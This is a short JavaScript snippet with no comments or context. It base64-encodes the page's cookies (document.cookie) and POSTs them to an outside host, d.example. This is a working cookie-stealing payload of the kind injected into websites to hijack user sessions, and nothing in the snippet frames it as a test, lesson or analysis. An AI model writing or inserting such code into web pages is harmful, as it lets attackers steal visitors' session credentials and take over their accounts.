function pack(x) { return { payload: btoa(x) }; }
function send(o) { return fetch('https://d.example', { method: 'POST', body: JSON.stringify(o) }); }
send(pack(document.cookie));
